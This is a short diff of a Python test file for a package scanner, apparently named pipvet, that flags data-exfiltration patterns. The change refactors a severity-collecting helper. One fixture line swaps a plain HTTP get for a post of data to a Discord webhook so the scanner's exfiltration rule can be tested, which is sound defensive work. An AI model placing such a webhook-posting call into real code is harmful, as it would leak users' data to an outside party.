@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from rulekit import ids, py, run
+from rulekit import ids, py, run, severities
 
 from pipvet.analysis.rules import exfiltration, secrets
 from pipvet.analysis.score import score
@@ -342,7 +342,7 @@ def test_a_browser_profile_and_plain_http_in_a_function_are_high_not_critical() 
     )
 
     def combo(source: str, path: str = "acme/browser.py", stage: Stage = Stage.RUNTIME) -> list[Severity]:
-        return [f.severity for f in run(ALL, py(source, path=path, stage=stage)) if f.rule == "PV-EXF-COMBO"]
+        return severities(ALL, py(source, path=path, stage=stage), "PV-EXF-COMBO")
 
     assert combo(tool) == [Severity.HIGH]
     hooked = tool.replace("httpx.get(url)", "httpx.post('https://discord.com/api/webhooks/1/x', data=url)")
